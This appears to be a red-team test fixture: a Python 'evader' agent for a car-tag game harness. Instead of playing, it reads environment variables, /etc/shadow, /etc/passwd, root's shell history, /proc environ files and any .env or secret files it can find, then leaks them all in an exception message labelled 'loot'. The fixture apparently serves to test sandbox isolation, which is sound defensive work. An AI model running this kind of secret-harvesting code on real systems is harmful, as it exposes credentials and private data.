# redteam: domain=car_tag side=evader expect=exception
import glob
import os


class Snoop:
    name = "snoop"
    description = "reports everything it can read in its error message"

    def __call__(self, obs):
        found = [repr(dict(os.environ))]
        paths = ["__SECRET_FILE__", "/proc/self/environ", "/proc/1/environ", "/etc/shadow", "/etc/passwd",
                 "/root/.bash_history", *(f"/proc/{pid}/environ" for pid in range(1, 64))]
        paths += glob.glob("/work/**/*.env", recursive=True) + glob.glob("/tmp/**/*secret*", recursive=True)
        for path in paths:
            try:
                with open(path, "rb") as fh:
                    found.append(f"{path}: {fh.read(4000)!r}")
            except OSError as exc:
                found.append(f"{path}: {exc}")
        raise RuntimeError("loot: " + " | ".join(found))
